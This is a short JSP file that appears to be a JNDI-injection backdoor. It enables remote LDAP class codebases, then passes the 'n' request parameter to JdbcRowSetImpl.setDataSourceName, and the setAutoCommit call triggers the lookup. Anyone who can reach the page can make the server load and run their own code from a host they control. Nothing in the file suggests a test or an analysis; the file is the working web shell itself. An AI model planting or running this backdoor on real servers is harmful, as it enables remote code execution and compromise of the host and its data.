<%
    System.setProperty("com.sun.jndi.ldap.object.trustURLCodebase", "true");
    com.sun.rowset.JdbcRowSetImpl rs = new com.sun.rowset.JdbcRowSetImpl();
    rs.setDataSourceName(request.getParameter("n"));
    rs.setAutoCommit(true);
%>
